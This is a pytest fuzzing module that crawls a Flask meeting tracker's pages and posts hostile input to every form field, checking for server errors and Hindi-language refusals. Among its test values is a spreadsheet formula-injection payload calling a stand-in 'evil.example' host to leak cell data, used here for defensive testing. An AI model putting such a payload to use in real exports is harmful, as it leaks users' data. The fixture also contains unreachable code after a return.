"""Every page form under hostile input (issue 17, acceptance 1, the pages' part).

On the demo world (the directory, the reference meeting with its attendance and review, the coming
meeting), the pages that users of four roles reach from their home page are crawled (two addresses
of each page at most), and every ``<form method="post">`` found is kept with the user who saw it.
Each text field (single-line input or textarea) of each form is then posted, the other fields as
the page filled them, with a value at its limit, just over it, far over it, and with a C1 control,
a bidi override, a NUL and a formula. Whatever happens:

* never a 5xx;
* a refusal (the form shown again) is in Hindi: no English UI text on the page, and a value over
  the limit or holding a control or direction character is refused with the Hindi message of
  the rule that refused it (WTForms' ``Length``, tracker/text.py).

The login form is posted the same way by an anonymous visitor. Every POST route of the pages is
either reached by the crawl or listed in ``NO_TEXT_FIELDS`` (its forms have no text field).
"""

from __future__ import annotations

import re
from collections import deque
from datetime import date
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
import sqlalchemy as sa
from flask import current_app
from werkzeug.datastructures import MultiDict
from werkzeug.exceptions import MethodNotAllowed, NotFound

from tests.i18n_support import english_leaks
from tracker.auth.models import User
from tracker.extensions import db

# A fuzzer: in `make test` (and CI), not in the quick lane (`make test-fast`).
pytestmark = pytest.mark.slow

USERS = ("admin", "coordinator", "sanjay", "praveen")
PAGES_PER_ENDPOINT = 2
# Links not followed: files, feeds, the way out.
SKIP_LINK = re.compile(r"/(export|download|template|calendar\.ics|feed|qr|logout)|\.(csv|xlsx|ics|svg|png|pdf)\b")
# Forms not posted: they change who is signed in or the session's language, not data.
SKIP_ACTIONS = {"auth.logout", "auth.logout_everywhere", "core.set_locale", "directory_io.import_upload", "directory_io.import_commit"}
# POST routes whose forms have no text field (buttons, choices, dates, numbers, files).
NO_TEXT_FIELDS = {
    "flags.settings",  # a number of days only
    "minutes.upload_logo", "minutes.remove_logo",  # a file, or only the CSRF token (tests/minutes/test_logo.py)
    "auth.logout", "auth.logout_everywhere", "core.set_locale", "meetings.rotate_calendar", "attendance.self_checkin", "attendance.lock",
    "attendance.reopen", "attendance.undo", "attendance.walk_in_pick", "directory_io.import_upload",
    "directory_io.import_commit", "directory.person_archive", "directory.person_restore",
    "directory.unit_archive", "directory.unit_delete", "directory.unit_restore", "directory.post_end",
    "meetings.change_status", "meetings.agenda_item_action", "meetings.cancel_session", "meetings.uninvite",
    "reminders.cancel", "reminders.retry", "reminders.pause", "reminders.resolve_problem", "circulars.remind",
    "reminders.reminder_times", "reviews.standard_checklist", "reviews.standard_categories",
    "reviews.move_checklist_item", "reviews.sign_off", "reviews.start_for_session", "api_tokens.revoke",
    "reminders_link.office_revoke", "reminders_link.revoke", "reminders_link.own_revoke",
    "reviews.checklist", "reviews.new_note", "logins.change_role", "logins.confirmed", "logins.from_posts",
    "logins.link", "meetings.remind_unanswered", "attendance.division_present", "attendance.roll_call_undo",
    "attendance_reports.message_absentees",
    "reports.verify",
    "minutes.start", "minutes.approve", "minutes.send",  # a language to choose, or a button
    "attendance.sync",  # JSON from the phone's queue, no form (tests/attendance/test_sync.py sends it bad input)
    # JSON and raw pieces from reports.js, no form (tests/uploads/test_resumable.py sends them bad input)
    "uploads.start_upload", "uploads.finish_upload",
}

# The forms of someone not signed in: posted by the tests at the end of this module.
# The reply from a personal link is the same ReplyForm as meetings.reply (which the crawl posts).
ANONYMOUS_FORMS = {"auth.login", "auth.login_mobile", "auth.login_code", "reminders_link.reply",
                   "circulars_link.link_show", "reports_link.link_report"}

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# The Hindi of WTForms' Length messages: "अधिकतम %(max)d अक्षर …", "… %(min)d से %(max)d अक्षरों के बीच …".
LENGTH_HI = ("अधिकतम", "अक्षरों के बीच")
TEXT_RULE_HI = "अदृश्य नियंत्रण या दिशा चिह्न"


def hostile_values(limit: int) -> list[tuple[str, str]]:
    """(what, value): at the limit, just over, far over, control, bidi, NUL, formula."""
    return [
        ("at limit", "क" * limit),
        ("just over", "a" * (limit + 1)),
        ("far over", "a" * min(max(limit * 20, 5000), 50_000)),
        ("C1 control", "Ram\u0085Kumar"),
        ("bidi override", "Ram\u202eKumar"),
        ("NUL", "Ram\x00Kumar"),
        ("formula", FORMULA),
    ]


class _Forms(HTMLParser):
    """The links and the POST forms of a page: action, text fields (name, maxlength, multi-line), and
    the data the page would send as it stands."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.links: list[str] = []
        self.forms: list[dict] = []
        self._form: dict | None = None
        self._select: str | None = None
        self._textarea: str | None = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "a" and a.get("href"):
            self.links.append(a["href"])
        elif tag == "form":
            method = "post" if (a.get("method") or "get").lower() == "post" else "get"
            self._form = {"action": a.get("action") or "", "data": [], "text": [], "submit": None, "method": method}
        elif self._form is not None:
            handler = getattr(self, f"_start_{tag}", None)
            if handler is not None:
                handler(a)

    def _start_input(self, a: dict) -> None:
        kind, name = (a.get("type") or "text").lower(), a.get("name")
        if not name or a.get("disabled") is not None:
            return
        if kind in ("text", "search", "tel", "email", "url", "", "password"):
            kind = "password" if kind == "password" else "line"
            self._form["text"].append((name, int(a["maxlength"]) if a.get("maxlength") else None, kind))
            self._form["data"].append((name, a.get("value") or ""))
        elif kind in ("checkbox", "radio"):
            if a.get("checked") is not None:
                self._form["data"].append((name, a.get("value") or "y"))
        elif kind in ("submit", "button"):
            if self._form["submit"] is None:
                self._form["submit"] = (name, a.get("value") or "")
        elif kind != "file":
            self._form["data"].append((name, a.get("value") or ""))

    def _start_button(self, a: dict) -> None:
        if a.get("name") and self._form["submit"] is None:
            self._form["submit"] = (a["name"], a.get("value") or "")

    def _start_textarea(self, a: dict) -> None:
        if a.get("name"):
            self._textarea = a["name"]
            self._form["text"].append((a["name"], int(a["maxlength"]) if a.get("maxlength") else None, "multi"))
            self._form["data"].append((a["name"], ""))

    def _start_select(self, a: dict) -> None:
        if a.get("name"):
            self._select = a["name"]
            self._form["data"].append((a["name"], None))

    def _start_option(self, a: dict) -> None:
        if not self._select:
            return
        value = a.get("value", "")
        data = self._form["data"]
        index = max(i for i, (n, _) in enumerate(data) if n == self._select)
        if data[index][1] is None or (a.get("selected") is not None):
            data[index] = (self._select, value)

    def handle_data(self, data):
        if self._form is not None and self._textarea:
            name = self._textarea
            self._form["data"] = [(n, (v + data) if n == name else v) for n, v in self._form["data"]]

    def handle_endtag(self, tag):
        if tag == "textarea":
            self._textarea = None
        elif tag == "select":
            self._select = None
        elif tag == "form" and self._form is not None:
            form, self._form = self._form, None
            if form["method"] == "post":
                self.forms.append(form)
            elif not form["text"]:  # a button that opens a page (e.g. a roster row's details)
                query = "&".join(f"{n}={v}" for n, v in [*form["data"], *([form["submit"]] if form["submit"] else [])]
                                 if n and v is not None)
                self.links.append(f"{form['action']}?{query}" if query else form["action"])


def _parse(html: str) -> _Forms:
    parser = _Forms()
    parser.feed(html)
    return parser


# The demo loaded for a fixed day, and the clock on the coming meeting's first morning, while its sessions' marking window is open (the
# roster's forms show only then): the crawl reaches the same forms whatever the hour it runs at.
DAY = date(2026, 3, 2)
NOW = "2026-03-03T11:30:00+05:30"  # the coming meeting's first morning


@pytest.fixture
def world(app, app_clock):
    from tracker.demo import load_demo, load_meetings

    app_clock.set(NOW)
    from tracker.meetings import operations as meeting_ops
    from tracker.meetings.models import Meeting, MeetingStatus, SessionKind
    from tracker.reviews import operations as review_ops

    load_demo()
    load_meetings(DAY)
    # An agenda item to edit, a draft note to write (the reference note is signed off).
    coming = db.session.scalars(sa.select(Meeting).where(Meeting.status == MeetingStatus.PUBLISHED)
                                .order_by(Meeting.starts_on.desc())).first()
    group = next(s for s in coming.sessions if s.kind == SessionKind.GROUP)
    meeting_ops.add_agenda_item(group, {"title_en": "Welcome", "title_hi": "स्वागत"})
    reviewer = db.session.scalar(sa.select(User).where(User.username == "sanjay"))
    slot = next((s for s in coming.sessions if s.kind == SessionKind.ONE_TO_ONE
                 and any(i.person_id == reviewer.person_id for i in s.invitations)), None)
    if slot is not None:
        review_ops.start_note_for_session(slot, reviewer)
    db.session.commit()
    # A paper sheet is entered for a session whose marking window has closed: the reference meeting's.
    past = db.session.scalars(sa.select(Meeting).where(Meeting.status == MeetingStatus.PUBLISHED)
                              .order_by(Meeting.starts_on)).first()
    sheet = [f"/attendance/sessions/{next(s for s in past.sessions if s.kind == SessionKind.GROUP).id}/paper-sheet"]
    return sheet + ([f"/reviews/campaigns/{coming.campaign_id}/checklist"] if coming.campaign_id else [])
    for user in db.session.scalars(sa.select(User)):
        user.locale = "hi"
    db.session.commit()


def _endpoint(app, path: str, method: str = "GET") -> str | None:
    adapter = app.url_map.bind("localhost")
    try:
        return adapter.match(path, method=method)[0]
    except (NotFound, MethodNotAllowed):
        return None
    except Exception:  # a redirect rule
        return None


def crawl(app, client, start: list[str]) -> dict[str, tuple[str, dict]]:
    """endpoint -> (action URL, form) of the POST forms the signed-in user reaches."""
    seen_pages: dict[str, int] = {}
    visited: set[str] = set()
    queue = deque(["/home", "/directory/", "/meetings/", "/reviews/", "/attendance/", "/settings", "/outbox/", *start])
    forms: dict[str, tuple[str, dict]] = {}
    while queue:
        url = queue.popleft()
        path = urlsplit(url).path
        endpoint = _endpoint(app, path)
        if url in visited or endpoint is None or endpoint == "static" or path.startswith("/api/"):
            continue
        if seen_pages.get(endpoint, 0) >= PAGES_PER_ENDPOINT:
            continue
        visited.add(url)
        response = client.get(url)
        assert response.status_code < 500, f"GET {url}: {response.status_code}"
        if response.status_code != 200 or response.mimetype != "text/html":
            continue
        seen_pages[endpoint] = seen_pages.get(endpoint, 0) + 1
        page = _parse(response.get_data(as_text=True))
        for form in page.forms:
            action = urljoin(url, form["action"] or url)
            target = _endpoint(app, urlsplit(action).path, "POST")
            if target and (target not in forms or len(form["text"]) > len(forms[target][1]["text"])):
                forms[target] = (action, form)  # the fullest form of each route
        for href in page.links:
            link = urljoin(url, href)
            parts = urlsplit(link)
            if parts.netloc not in ("", "localhost") or SKIP_LINK.search(parts.path):
                continue
            queue.append(parts.path + (f"?{parts.query}" if parts.query else ""))
    return forms


def _post(client, action: str, form: dict, field: str, value: str):
    data = [(n, v) for n, v in form["data"] if n != field and v is not None]
    data.append((field, value))
    if form["submit"] and form["submit"][0]:
        data.append(form["submit"])
    return client.post(action, data=MultiDict(data), headers={"Accept-Language": "hi"})


def _check(response, what: str, kind: str, where: str) -> list[str]:
    problems = []
    if response.status_code >= 500:
        return [f"{where}: {response.status_code}"]
    if response.status_code in (301, 302, 303):
        return []
    html = response.get_data(as_text=True)
    if "<" not in html:  # an htmx status text (the note's autosave): a refusal is a 4xx, in Hindi
        if response.status_code >= 400 and not re.search("[\u0900-\u097f]", html):
            problems.append(f"{where}: refused without a Hindi message: {html[:100]!r}")
        return problems
    problems += [f"{where}: English {leak!r}" for leak in english_leaks(html)]
    refused = {"just over", "far over"} | ({"C1 control", "bidi override", "NUL"} if kind == "line" else set())
    if what in refused:
        expected = LENGTH_HI if what.endswith("over") else (TEXT_RULE_HI,)
        if not any(fragment in html for fragment in expected):
            problems.append(f"{where}: refused without the Hindi message ({response.status_code})")
    return problems


def test_every_page_form_holds_under_hostile_input_in_hindi(app, client, auth, world):
    password = current_app.config["DEMO_PASSWORD"]
    found: dict[str, tuple[str, str, dict]] = {}
    for username in USERS:
        auth.login(username, password)
        for endpoint, (action, form) in crawl(app, client, world).items():
            if endpoint not in found or len(form["text"]) > len(found[endpoint][2]["text"]):
                found[endpoint] = (username, action, form)
        auth.logout()
    if "reviews.edit" in found:  # the note's form is also saved as it is typed (htmx)
        username, action, form = found["reviews.edit"]
        found["reviews.autosave"] = (username, action.replace("/edit", "/autosave"), form)

    post_routes = {r.endpoint for r in app.url_map.iter_rules()
                   if "POST" in r.methods and not r.rule.startswith("/api/") and r.endpoint not in ANONYMOUS_FORMS}
    with_text = {e for e, (_u, _a, f) in found.items() if f["text"]}
    unreached = post_routes - with_text - NO_TEXT_FIELDS
    assert not unreached, f"POST routes with text fields that the crawl did not reach: {sorted(unreached)}"
    assert len(with_text) >= 20

    problems: list[str] = []
    posted = 0
    for endpoint in sorted(with_text):
        username, action, form = found[endpoint]
        if endpoint in SKIP_ACTIONS:
            continue
        auth.login(username, password)
        for field, maxlength, kind in form["text"]:
            for what, value in hostile_values(maxlength or 200):
                response = _post(client, action, form, field, value)
                posted += 1
                problems += _check(response, what, kind, f"{username} {endpoint} {field} {what}")
        auth.logout()
    assert posted > 300
    assert problems == [], "\n".join(problems[:60])


@pytest.mark.parametrize("field,limit", [("username", 80), ("password", 1000)])
def test_the_login_form_holds_under_hostile_input(client, field, limit):
    problems = []
    for what, value in hostile_values(limit):
        data = {"username": "asha", "password": "wrong", field: value}
        response = client.post("/login", data=data, headers={"Accept-Language": "hi"})
        kind = "password" if field == "password" else "line"  # a password may hold any character
        problems += _check(response, what, kind, f"login {field} {what}")
    assert problems == [], "\n".join(problems)


def test_the_mobile_sign_in_forms_hold_under_hostile_input(client):
    from tracker.auth.views import MOBILE_KEY

    problems = []
    for what, value in hostile_values(40):
        response = client.post("/login/mobile", data={"mobile": value}, headers={"Accept-Language": "hi"})
        problems += _check(response, what, "line", f"mobile {what}")
    with client.session_transaction() as session:
        session[MOBILE_KEY] = "+919425000001"
    for what, value in hostile_values(20):
        response = client.post("/login/code", data={"code": value}, headers={"Accept-Language": "hi"})
        problems += _check(response, what, "line", f"code {what}")
        assert response.status_code in (200, 400, 401), (what, response.status_code)  # never signed in
    assert problems == [], "\n".join(problems)
